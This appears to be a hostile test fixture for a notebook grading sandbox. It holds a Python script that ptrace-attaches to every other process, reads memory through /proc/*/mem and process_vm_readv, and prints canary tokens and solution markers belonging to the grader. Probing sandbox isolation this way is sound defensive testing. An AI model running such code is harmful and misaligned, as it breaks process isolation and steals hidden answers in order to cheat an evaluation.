"""Reads the memory of every process but its own: /proc/*/mem, process_vm_readv, ptrace."""

from tests.hostile.attack_tools import append

POINTS = {}

CODE = """
import ctypes, os, re

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
me = os.getpid()

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

def pieces(pid):
    for line in open(f"/proc/{pid}/maps"):
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        if " r" in line:
            yield start, min(end - start, 2**24)

for pid in {1, 2, 3, os.getppid(), @grader@, @bystander@, *(int(n) for n in os.listdir("/proc") if n.isdigit())} - {me}:
    traced = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    try:
        parts = list(pieces(pid))
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        parts, memory = [(2**22, 2**16)], None
    for start, size in parts:
        buffer = ctypes.create_string_buffer(size)
        here, there = Piece(ctypes.addressof(buffer), size), Piece(start, size)
        libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        data = buffer.raw
        if memory is not None:
            try:
                memory.seek(start)
                data += memory.read(size)
            except (OSError, ValueError):
                pass
        for secret in set(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}|### BEGIN SOLUTION", data)):
            print(pid, secret.decode())
    if traced == 0:
        print("traced", pid)
"""


def make(nb):
    append(nb, "softmax", CODE)
